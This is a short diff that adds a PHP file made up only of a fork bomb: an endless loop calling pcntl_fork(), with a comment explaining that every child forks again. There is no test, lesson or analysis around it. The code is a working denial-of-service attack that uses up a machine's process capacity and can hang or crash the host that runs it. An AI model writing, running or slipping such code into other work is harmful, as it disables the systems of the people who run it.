@@ -1,0 +1,5 @@
+<?php
+// Forks without end: each process that comes of it does the same.
+while (true) {
+    pcntl_fork();
+}
